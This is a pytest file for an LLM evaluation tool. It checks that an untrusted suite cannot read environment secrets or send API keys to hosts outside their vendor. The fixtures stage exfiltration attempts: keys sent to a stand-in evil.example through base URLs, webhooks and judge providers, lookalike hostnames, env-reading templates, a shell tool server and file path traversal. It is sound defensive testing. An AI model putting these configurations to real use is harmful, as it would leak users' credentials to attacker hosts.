"""The environment that an untrusted suite sees, its hosts, and the destinations of keys."""

import json
import ssl
from collections.abc import Mapping
from pathlib import Path
from typing import Any

import attrs
import pytest
import trio

from trioeval.errors import GradingError, ProviderError, SuiteError
from trioeval.evaluation.judge_services import open_webhooks
from trioeval.loading.load import load_suite, parse_suite
from trioeval.providers.http.client import open_http
from trioeval.providers.http.wire import HttpRequest
from trioeval.providers.resolve import CODE, LOCAL, MODULES
from trioeval.providers.vendor_hosts import key_variables, vendor_of
from trioeval.run import PreparedSuite, collect, prepare
from trioeval.suite.model import Suite

pytestmark = pytest.mark.attack("keys and reach of an untrusted suite")

KEY = "sk-0123456789abcdef"
ENVIRON = {
    "OPENAI_API_KEY": KEY,
    "ANTHROPIC_API_KEY": KEY,
    "STRIPE_API_KEY": KEY,
    "DATABASE_URL": "postgres://me:pw@db",
    "TRIOEVAL_VIEW_TOKEN": KEY,
}
PLAIN: Mapping[str, Any] = {
    "providers": ["echo"],
    "prompts": ["{{x}}"],
    "tests": [{"vars": {"x": "1"}}],
}
ELSEWHERE = "https://evil.example/v1"


def loaded(keys: Mapping[str, Any], *, trusted: bool = False, **more: Any) -> Suite:
    return parse_suite({**PLAIN, **keys}, environ=ENVIRON, trusted=trusted, **more)


def ready(
    keys: Mapping[str, Any], environ: Mapping[str, str] = ENVIRON, **more: Any
) -> PreparedSuite:
    return prepare(loaded(keys, **more), environ=environ)


def problems_of(keys: Mapping[str, Any], **more: Any) -> list[tuple[str, str, str]]:
    with pytest.raises(SuiteError) as caught:
        ready(keys, **more)
    return [(one.path, one.message, one.hint or "") for one in caught.value.problems]


def openai(base: str | None = None, prefix: str = "openai:m", **config: Any) -> dict[str, Any]:
    where = {} if base is None else {"apiBaseUrl": base}
    return {"providers": [{"id": prefix, "config": {**where, **config}}]}


def mcp(**server: Any) -> dict[str, Any]:
    return {"providers": [{"id": "mcp", "config": {"servers": [server]}}]}


def test_a_server_of_tools_that_is_a_program_is_refused(tmp_path: Path) -> None:
    """A trusted suite may start it."""
    keys = mcp(command="env", args=["sh", "x.sh"])
    ready(keys, trusted=True)
    (problem,) = problems_of(keys)
    assert problem == (
        "$.providers[0].config.servers[0].command",
        "servers[0].command is code, and an untrusted suite runs none",
        "leave it out; a suite that you trust runs without --untrusted",
    )


@pytest.mark.parametrize("token", ["{{DATABASE_URL}}", "{% if DATABASE_URL %}x{% endif %}"])
def test_a_server_of_tools_gets_no_variable_that_is_not_allowed(token: str) -> None:
    """Templates of its `auth` name variables of the environment."""
    keys = mcp(url=ELSEWHERE, auth={"type": "bearer", "token": token})
    (problem,) = problems_of(keys)
    assert problem == (
        "$.providers[0].config.servers[0].auth",
        "an untrusted suite cannot read the environment variable DATABASE_URL",
        "allow it with --allow-env DATABASE_URL",
    )
    ready(keys, allow_env=["DATABASE_URL"])


def test_a_key_that_goes_to_a_server_of_tools_is_warned_of() -> None:
    """Its vendor's hosts are others."""
    keys = mcp(url=ELSEWHERE, auth={"type": "bearer", "token": "{{ANTHROPIC_API_KEY}}"})
    environ = {**ENVIRON, "PATH": "/usr/bin:/bin"}
    found = prepare(loaded(keys, trusted=True), environ=environ)
    (warning,) = [str(one) for one in found.warnings if "ANTHROPIC" in str(one)]
    assert "ANTHROPIC_API_KEY goes to evil.example" in warning


def test_servers_of_tools_of_a_model_are_treated_like_its_endpoint() -> None:
    """Programs are refused; services are hosts of the suite, and get no key of the model."""
    started = {"enabled": True, "server": {"command": "sh"}}
    (problem,) = problems_of(openai(mcp=started))
    assert problem[0] == "$.providers[0].config.mcp.server.command"
    called = {"enabled": True, "server": {"url": ELSEWHERE}}
    assert ready(openai(mcp=called)).warnings == ()
    token = {"type": "bearer", "token": "{{OPENAI_API_KEY}}"}
    called["server"] = {"url": ELSEWHERE, "auth": token}
    environ = {**ENVIRON, "PATH": "/usr/bin:/bin"}
    found = prepare(loaded(openai(mcp=called), trusted=True), environ=environ)
    assert any("OPENAI_API_KEY goes to evil.example" in str(one) for one in found.warnings)


TEMPLATES = {
    "a name": "{{env.DATABASE_URL}}",
    "a filter": "{{ env.DATABASE_URL | upper }}",
    "a subscript": "{{ env['DATABASE_URL'] }}",
    "a default": "{{ env.DATABASE_URL | default('x') }}",
    "two": "{{ env.HOME ~ env.DATABASE_URL }}",
}


@pytest.mark.parametrize("template", TEMPLATES.values(), ids=TEMPLATES)
@pytest.mark.parametrize("place", ["prompt", "variable", "env", "header", "url"])
def test_the_environment_is_refused_by_name(template: str, place: str, tmp_path: Path) -> None:
    """This holds wherever a template in a file names a variable that the user did not allow."""
    places: dict[str, dict[str, Any]] = {
        "prompt": {"prompts": [template]},
        "variable": {"tests": [{"vars": {"x": template}}]},
        "env": {"env": {"MINE": template}},
        "header": {"providers": [{"id": ELSEWHERE, "config": {"headers": {"x": template}}}]},
        "url": {"providers": [f"https://evil.example/?q={template}"]},
    }
    file = tmp_path / "suite.json"
    file.write_text(json.dumps({**PLAIN, **places[place]}))
    with pytest.raises(SuiteError) as caught:
        prepare(file, environ={**ENVIRON, "HOME": "/me"}, trusted=False)
    assert "DATABASE_URL" in str(caught.value)
    assert "allow it with --allow-env DATABASE_URL" in str(caught.value)
    assert "postgres" not in str(caught.value)


@pytest.mark.parametrize(
    "template",
    [
        "{{ env.DATABASE_URL }}",
        "{{ env['DATABASE' + '_URL'] }}",
        "{% for name in env %}{{ name }}{% endfor %}",
        "{{ env | dump }}",
        "{% set e = env %}{{ e.TRIOEVAL_VIEW_TOKEN }}",
        "{% if env.DATABASE_URL %}set{% endif %}",
    ],
)
def test_templates_at_run_time_see_no_environment(
    template: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    """This holds for any notation of a template."""
    for name, value in ENVIRON.items():
        monkeypatch.setenv(name, value)
    suite = loaded({"prompts": [f"<{template}>"], "env": {"OWN": "own"}}, allow_env=["HOME"])
    [row] = trio.run(collect, suite)
    output = str(row.output)
    assert not any(part in output for part in ("postgres", KEY, "DATABASE", "TOKEN", "set"))


def test_allowed_names_and_those_of_the_suite_are_visible(tmp_path: Path) -> None:
    """The first are allowed by the user, the second defined by the suite."""
    file = tmp_path / "suite.json"
    file.write_text(
        json.dumps({**PLAIN, "env": {"OWN": "o"}, "prompts": ["{{env.TEAM}}{{env.OWN}}{{env.NO}}"]})
    )
    suite = load_suite(file, environ={"TEAM": "t"}, trusted=False, allow_env=["TEAM"])
    assert suite.prompts[0].raw == "to{{env.NO}}"


def test_an_environment_file_is_named_only_by_the_user() -> None:
    """An `.env` next to the suite may be the user's."""
    assert "$.commandLineOptions.envFile" in str(
        problems_of({"commandLineOptions": {"envFile": ".env"}})
    )


KEYS_ELSEWHERE: Mapping[str, tuple[dict[str, Any], str]] = {
    "apiBaseUrl": (openai(ELSEWHERE), "OPENAI_API_KEY"),
    "apiHost": (openai(apiHost="evil.example"), "OPENAI_API_KEY"),
    "loopback": (openai("http://127.0.0.1:9/v1"), "OPENAI_API_KEY"),
    "without TLS": (openai("http://api.openai.com/v1"), "OPENAI_API_KEY"),
    "a name that looks like it": (openai("https://api.openai.com.evil.example"), "OPENAI_API_KEY"),
    "another vendor's host": (openai("https://api.anthropic.com/v1"), "OPENAI_API_KEY"),
    "apiKeyEnvar": (openai(apiKeyEnvar="STRIPE_API_KEY"), "STRIPE_API_KEY"),
    "apiKeyEnvar of another vendor": (
        openai(apiKeyEnvar="ANTHROPIC_API_KEY"),
        "ANTHROPIC_API_KEY",
    ),
    "a service of any name": (
        openai(ELSEWHERE, "openai-api:stripe:m"),
        "STRIPE_API_KEY",
    ),
    "anthropic": (openai(ELSEWHERE, "anthropic:claude"), "ANTHROPIC_API_KEY"),
    "env of the suite": (
        {**openai(), "env": {"OPENAI_BASE_URL": ELSEWHERE}},
        "OPENAI_API_KEY",
    ),
    "env of the provider": (
        {"providers": [{"id": "openai:m", "env": {"OPENAI_API_HOST": "evil.example"}}]},
        "OPENAI_API_KEY",
    ),
    "a judge": (
        {
            "defaultTest": {
                "options": {"provider": {"id": "openai:m", "config": {"apiBaseUrl": ELSEWHERE}}},
                "assert": [{"type": "llm-rubric", "value": "a"}],
            }
        },
        "OPENAI_API_KEY",
    ),
}


@pytest.mark.parametrize(("keys", "variable"), KEYS_ELSEWHERE.values(), ids=KEYS_ELSEWHERE)
def test_a_key_of_the_environment_is_sent_only_to_its_vendor(
    keys: dict[str, Any], variable: str
) -> None:
    """The refusal names the variable, and the flag that allows it."""
    problems = [one for one in problems_of(keys) if f"may not send {variable} to " in one[1]]
    assert problems
    assert f"--allow-env {variable}" in problems[0][2]
    assert KEY not in str(problems)
    # A user who allows it by name wants it; a judge elsewhere is still a host that was not named.
    if "defaultTest" not in keys and variable != "ANTHROPIC_API_KEY":
        assert ready(keys, allow_env=[variable]).specs


@pytest.mark.parametrize(
    ("keys", "environ"),
    [
        (openai(), ENVIRON),
        (openai("https://eu.api.openai.com/v1"), ENVIRON),
        (openai(ELSEWHERE, apiKey="the-suites-own"), ENVIRON),
        (openai(ELSEWHERE), {**ENVIRON, "OPENAI_API_KEY": ""} | {"OPENAI_API_KEY": KEY}),
        (openai(), {**ENVIRON, "OPENAI_BASE_URL": "https://gateway.example/v1"}),
        (openai("http://127.0.0.1:9/v1", "ollama:m"), ENVIRON),
    ],
    ids=["vendor", "region", "own key", "elsewhere", "gateway of the user", "local model"],
)
def test_intended_uses_of_keys_work(
    keys: dict[str, Any], environ: dict[str, str], request: pytest.FixtureRequest
) -> None:
    """This covers the vendor, a URL in the user's own environment, and servers without a key."""
    if "elsewhere" in request.node.name:
        with pytest.raises(SuiteError):
            ready(keys, environ)
    else:
        assert ready(keys, environ).hosts


def test_hosts_of_vendors_are_exact() -> None:
    """A host of another owner that only resembles a vendor's name is not the vendor's."""
    strange = {
        "AWS_SECRET_ACCESS_KEY": "ec2-1-2-3-4.compute.amazonaws.com x.s3.amazonaws.com",
        "AZURE_API_KEY": "evil.azurewebsites.net openai.azure.com.evil.example",
        "OPENAI_API_KEY": "openai.com evil-api.openai.com.example xapi.openai.com",
        "GEMINI_API_KEY": "evil.appspot.com storage.googleapis.com",
    }
    for variable, hosts in strange.items():
        vendor = vendor_of(variable)
        assert vendor is not None
        assert not [host for host in hosts.split() if vendor.owns(host)]
    own = {
        "AWS_SECRET_ACCESS_KEY": "bedrock-runtime.us-east-1.amazonaws.com",
        "AZURE_API_KEY": "mine.openai.azure.com",
        "GEMINI_API_KEY": "generativelanguage.googleapis.com",
        "OPENAI_API_KEY": "API.OpenAI.com",
    }
    assert all((vendor_of(name) or pytest.fail(name)).owns(host) for name, host in own.items())
    assert "MISTRAL_API_KEY" in key_variables()


PROFILE = {"providers": [{"id": "bedrock:m", "config": {"region": "us-east-1", "profile": "prod"}}]}


def test_the_user_chooses_the_credentials() -> None:
    """A profile may reach anything, and may name programs."""
    message = "profile chooses among your credentials, which an untrusted suite may not do"
    hint = "choose with AWS_PROFILE in your environment, or allow it with --allow-env AWS_PROFILE"
    assert problems_of(PROFILE) == [("$.providers[0].config.profile", message, hint)]


def test_the_user_chooses_the_profile_of_a_judge_too() -> None:
    """All providers are checked."""
    judge = {"provider": PROFILE["providers"][0], "type": "llm-rubric", "value": "good"}
    assert "chooses among your credentials" in problems_of({"tests": [{"assert": [judge]}]})[0][1]


@pytest.mark.parametrize("more", [{"trusted": True}, {"allow_env": ["AWS_PROFILE"]}], ids=str)
def test_an_allowed_profile_is_used(more: Mapping[str, Any]) -> None:
    """This covers a trusted suite, and one that is explicitly allowed."""
    assert ready(PROFILE, **more).specs


def test_every_service_with_a_key_declares_its_hosts() -> None:
    """A new service must declare its hosts, unless users run it themselves."""
    own = {"litellm", "llamacpp", "lmstudio", "localai", "ollama", "vllm", "openai-api"}
    own |= {"cloudera", "docker", "envoy", "f5", "helicone", "mlflow-gateway"}
    own |= {"cloudflare-gateway"}  # it gets the keys of the services behind it
    sdks = {prefix for prefix in MODULES if prefix.endswith("-sdk")}
    servers = (
        MODULES.keys()
        - CODE
        - LOCAL
        - own
        - sdks
        - {"http", "https", "websocket", "ws", "wss", "bedrock", "mcp", "sagemaker", "vertex"}
    )
    missing = []
    for prefix in sorted(servers):
        model = {"hf": "chat:m", "huggingface": "chat:m", "replicate": "a/b"}.get(prefix, "m")
        with pytest.raises(SuiteError) as caught:
            prepare(parse_suite({**PLAIN, "providers": [f"{prefix}:{model}"]}), environ={})
        hints = " ".join(one.hint or "" for one in caught.value.problems)
        if not any(name in hints for name in key_variables()):
            missing.append((prefix, hints))
    assert missing == []


@pytest.mark.parametrize(
    ("keys", "place"),
    [
        ({"tests": [{"assert": [{"type": "webhook", "value": ELSEWHERE}]}]}, "assert[0].value"),
        (
            {"tests": [{"assert": [{"type": "webhook", "value": "https://{{x}}.example"}]}]},
            "assert[0].value",
        ),
        (
            {
                "tests": [
                    {"assert": [{"type": "webhook", "value": "https://api.example@evil.example"}]}
                ]
            },
            "assert[0].value",
        ),
        (
            {
                "defaultTest": {
                    "options": {"provider": "https://evil.example/judge"},
                    "assert": [{"type": "llm-rubric", "value": "a"}],
                }
            },
            "provider",
        ),
        ({"limits": {"backend": "redis", "url": "redis://evil.example"}}, "$.limits.backend"),
        ({"limits": {"backend": "http", "url": "http://evil.example"}}, "$.limits.backend"),
        ({"providers": ["https://{{x}}/v1"]}, "$.providers[0].id"),
        ({"providers": [{"id": "https", "config": {"url": "{{base}}/v1"}}]}, "$.providers[0]"),
    ],
)
def test_only_providers_are_called(keys: dict[str, Any], place: str) -> None:
    """Servers that judge, hold limits or come from variables are refused at their position."""
    problems = problems_of({"providers": ["https://api.example/v1"], **keys})
    assert any(place in path and "untrusted suite" in text for path, text, _ in problems), problems


def test_the_client_restricts_the_network_too() -> None:
    """A redirect, a rendered URL, a token server: requests that were not checked before are not sent."""

    async def send() -> None:
        hosts = frozenset({"api.example"})
        async with open_http(hosts=hosts) as client:
            with pytest.raises(ProviderError, match="not a host of the suite's providers"):
                await client.send(HttpRequest("http://127.0.0.1:9/", {}, None))
        async with open_webhooks({}, hosts=hosts) as webhooks:
            with pytest.raises(GradingError, match="not a host of the suite's providers"):
                await webhooks.post("http://127.0.0.1:9/", {})

    trio.run(send)


@pytest.mark.parametrize("prefix", ["TRIOEVAL", "PROMPTFOO"])
def test_an_untrusted_suite_does_not_choose_trusted_certificates(prefix: str) -> None:
    """Its settings are ignored with a warning; those of the user's environment apply."""
    own = {f"{prefix}_INSECURE_SSL": "true", f"{prefix}_CA_CERT_PATH": "ca.pem"}
    prepared = ready({"env": own})
    assert (prepared.trust.verify, prepared.trust.ca) == (True, None)
    assert [one.path for one in prepared.warnings] == [f"$.env.{name}" for name in own]
    mine = {**ENVIRON, f"{prefix}_INSECURE_SSL": "true"}
    assert not ready({"env": {}}, mine).trust.verify
    assert ssl.CERT_REQUIRED  # the meaning of verify


def test_files_stay_in_the_folder(tmp_path: Path) -> None:
    """Nothing in a suite widens its folder, not even for its tasks."""
    (tmp_path / "secret.txt").write_text("secret")
    folder = tmp_path / "suite"
    folder.mkdir()
    for reference in ("file://../secret.txt", f"file://{tmp_path}/./secret.txt"):
        for keys in (
            {"tests": [{"vars": {"x": reference}}]},
            {"allowOutside": True, "prompts": [reference]},
            {"roots": ["/"], "prompts": [reference]},
        ):
            with pytest.raises(SuiteError, match="outside of the suite's folder"):
                loaded(keys, directory=folder)


def test_a_trusted_suite_causes_a_warning_for_keys_that_go_elsewhere() -> None:
    """There is one warning per variable and host, for any number of providers."""
    entries: list[Any] = [
        {"id": f"openai:{name}", "config": {"apiBaseUrl": ELSEWHERE}} for name in ("a", "b")
    ]
    headers = {"headers": {"x": "{{env.ANTHROPIC_API_KEY}}"}}
    entries += [{"id": "https://other.example/", "config": headers}, "openai:c", "ollama:d"]
    prepared = ready({"providers": entries}, trusted=True)
    assert [(one.path, one.message) for one in prepared.warnings] == [
        (
            "$.providers[0]",
            "OPENAI_API_KEY goes to evil.example, which is not a host of its vendor",
        ),
        (
            "$.providers[2]",
            "ANTHROPIC_API_KEY goes to other.example, which is not a host of its vendor",
        ),
    ]
    gateway = {**ENVIRON, "OPENAI_BASE_URL": "https://gateway.example/v1"}
    assert not ready(openai(), gateway, trusted=True).warnings
    tasks = [
        {"id": name, "type": "prompt_eval", "prompts": ["a"], "providers": entries[:1]}
        for name in ("one", "two")
    ]
    several = parse_suite({"tasks": tasks}, environ=ENVIRON)
    assert [one.path for one in prepare(several, environ=ENVIRON).warnings] == [
        "$.tasks[0].providers[0]"
    ]


@pytest.mark.parametrize("host", ["localhost", "127.0.0.1", "127.8.9.1", "[::1]"])
def test_a_proxy_on_this_machine_causes_no_warning(host: str) -> None:
    """A trusted suite is the user's own; an untrusted one is refused nevertheless."""
    keys = openai(f"http://{host}:4000/v1")
    assert not ready(keys, trusted=True).warnings
    assert any("may not send OPENAI_API_KEY" in message for _, message, _ in problems_of(keys))


@pytest.mark.parametrize("host", ["localhost.evil.example", "127.0.0.1.evil.example", "10.0.0.1"])
def test_hosts_that_resemble_this_machine_cause_a_warning(host: str) -> None:
    """A name that begins like this machine's may belong to another one."""
    [warning] = ready(openai(f"http://{host}:4000/v1"), trusted=True).warnings
    assert f"OPENAI_API_KEY goes to {host}" in warning.message


def test_trust_applies_to_every_task() -> None:
    """A task has no separate permissions."""
    suite = parse_suite(
        {"tasks": [{"id": "a", "type": "prompt_eval", "prompts": ["a"], "providers": ["echo"]}]},
        trusted=False,
    )
    assert [task.suite.trust.trusted for task in suite.tasks] == [False]
    assert attrs.evolve(suite, description="b").trust == suite.trust
